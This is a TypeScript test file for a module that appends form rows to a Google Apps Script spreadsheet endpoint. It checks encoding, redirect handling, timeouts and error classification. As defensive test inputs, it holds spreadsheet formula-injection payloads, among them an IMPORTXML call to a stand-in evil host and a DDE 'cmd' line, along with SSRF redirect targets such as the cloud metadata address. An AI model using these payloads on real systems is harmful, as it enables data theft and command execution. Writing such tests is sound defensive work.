import type { RequestListener } from "node:http";
import { text } from "node:stream/consumers";
import { afterEach, describe, expect, test } from "vitest";
import { startHttpPeer } from "#platform/outgoing/http-peer.fixture.ts";
import { spreadsheetTarget } from "./spreadsheet.server.ts";

const fields = {
  formname: "VIN",
  vin: "2HKRW2H20NH207506",
  city: "Trois-Rivières",
  province: "QC",
};
const json =
  (body: unknown): RequestListener =>
  (_request, response) =>
    response.end(JSON.stringify(body));

/**
 * A long timeout for the tests that do not test lateness, so that a busy machine does not fail
 * them.
 */
const PATIENT_MS = 20_000;

let peers: { close(): Promise<void> }[] = [];
afterEach(async () => {
  await Promise.all(peers.map((peer) => peer.close()));
  peers = [];
});

/**
 * Behaves as an Apps Script web app: the script responds with 302 to another host, which answers
 * the GET. Both hosts are this machine, under two names.
 */
async function startSheet(
  onResponse: RequestListener,
  onPost?: RequestListener,
  { timeoutMs }: { timeoutMs?: number } = {},
) {
  const calls: { method?: string; path?: string; type?: string; body: string }[] = [];
  const record = async (request: Parameters<RequestListener>[0]) =>
    calls.push({
      method: request.method,
      path: request.url,
      type: request.headers["content-type"],
      body: await text(request),
    });
  const responses = await startHttpPeer(async (request, response) => {
    await record(request);
    onResponse(request, response);
  });
  const echo = `${responses.baseUrl.replace("127.0.0.1", "localhost")}/macros/echo?user_content_key=k`;
  const script = await startHttpPeer(async (request, response) => {
    await record(request);
    if (onPost) return onPost(request, response);
    response.writeHead(302, { location: echo }).end("<HTML>Moved Temporarily</HTML>");
  });
  peers.push(responses, script);
  const url = `${script.baseUrl}/macros/s/abc/exec`;
  const target = spreadsheetTarget({
    url,
    timeoutMs: timeoutMs ?? PATIENT_MS,
    redirectHosts: ["localhost"],
  });
  return { calls, echo, target };
}

describe("a row", () => {
  test("is posted url-encoded, and its result fetched from where the 302 leads", async () => {
    const { calls, target } = await startSheet(json({ result: "success", row: 7 }));
    expect(await target.append(fields)).toEqual({ ok: true });
    expect(calls).toEqual([
      {
        method: "POST",
        path: "/macros/s/abc/exec",
        type: "application/x-www-form-urlencoded",
        body: "formname=VIN&vin=2HKRW2H20NH207506&city=Trois-Rivi%C3%A8res&province=QC",
      },
      { method: "GET", path: "/macros/echo?user_content_key=k", type: undefined, body: "" },
    ]);
  });

  test("may be answered without a redirect", async () => {
    const { target } = await startSheet(json({}), json({ result: "success" }));
    expect(await target.append(fields)).toEqual({ ok: true });
  });

  test.each([
    ['=IMPORTXML("https://evil.example","//a")', `'=IMPORTXML("https://evil.example","//a")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd", "'-2+3+cmd"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1+1", "'\t=1+1"],
    ["+14165550123", "+14165550123"],
    ["-12.50", "-12.50"],
    ["O'Neil = me", "O'Neil = me"],
  ])("with the cell %j is written as text", async (value, cell) => {
    const { calls, target } = await startSheet(json({ result: "success" }));
    await target.append({ message: value });
    expect(new URLSearchParams(calls[0]?.body).get("message")).toBe(cell);
  });
});

describe("what the script answers", () => {
  test("an error is temporary, and its words repeat none of the answers", async () => {
    const { target } = await startSheet(
      json({ result: "error", error: "Lock timeout at row 2HKRW2H20NH207506" }),
    );
    expect(await target.append(fields)).toEqual({
      ok: false,
      code: "temporary",
      detail: "spreadsheet: Lock timeout at row [removed]",
    });
  });

  test.each<[string, RequestListener]>([
    ["a page", (_request, response) => response.end("<!DOCTYPE html><title>Error</title>")],
    ["nothing", (_request, response) => response.end()],
    ["JSON of another form", json(["success"])],
    ["JSON null", json(null)],
    ["another result", json({ result: "Success" })],
    ["an endless answer", (_request, response) => void response.end(" ".repeat(1_000_000))],
    ["a cut connection", (request) => request.socket.destroy()],
    ["a second redirect", (_request, response) => response.writeHead(302, { location: "/" }).end()],
  ])("%s is temporary", async (_name, onResponse) => {
    const { target } = await startSheet(onResponse);
    expect(await target.append(fields)).toMatchObject({ ok: false, code: "temporary" });
  });

  test.each<[string, RequestListener]>([
    ["half an answer", (_request, response) => void response.write('{"result":"succ')],
    ["silence", () => {}],
  ])("%s is waited for as long as was said, and temporary", async (_name, onResponse) => {
    const { target } = await startSheet(onResponse, undefined, { timeoutMs: 300 });
    expect(await target.append(fields)).toMatchObject({ ok: false, code: "temporary" });
  });

  test("a redirect to itself is followed once", async () => {
    const { calls, target } = await startSheet(json({}), (_request, response) =>
      response.writeHead(302, { location: "/macros/s/abc/exec" }).end(),
    );
    expect(await target.append(fields)).toMatchObject({ ok: false, code: "temporary" });
    expect(calls.map(({ method }) => method)).toEqual(["POST", "GET"]);
  });

  test.each([307, 308, 301, 303])("%i is not the documented answer", async (status) => {
    const { calls, target } = await startSheet(json({ result: "success" }), (_request, response) =>
      response.writeHead(status, { location: "/elsewhere" }).end(),
    );
    expect(await target.append(fields)).toMatchObject({ ok: false, code: "temporary" });
    expect(calls).toHaveLength(1);
  });

  test.each([
    "https://accounts.google.com/ServiceLogin",
    "https://script.googleusercontent.com.evil.example/",
    "http://169.254.169.254/latest/meta-data",
    "ftp://localhost/",
    "http://[::1]/",
    "//evil.example/",
    "",
  ])("a redirect to %j is refused for good", async (location) => {
    const { calls, target } = await startSheet(json({ result: "success" }), (_request, response) =>
      response.writeHead(302, location ? { location } : {}).end(),
    );
    expect(await target.append(fields)).toMatchObject({ ok: false, code: "permanent" });
    expect(calls).toHaveLength(1);
  });
});

test.each(["", "script.google.com", "http://script.google.com/macros/s/abc/exec"])(
  "the address %j sends nothing",
  async (url) => {
    const result = await spreadsheetTarget({ url }).append(fields);
    expect(result).toMatchObject({ ok: false, code: "not_configured" });
  },
);
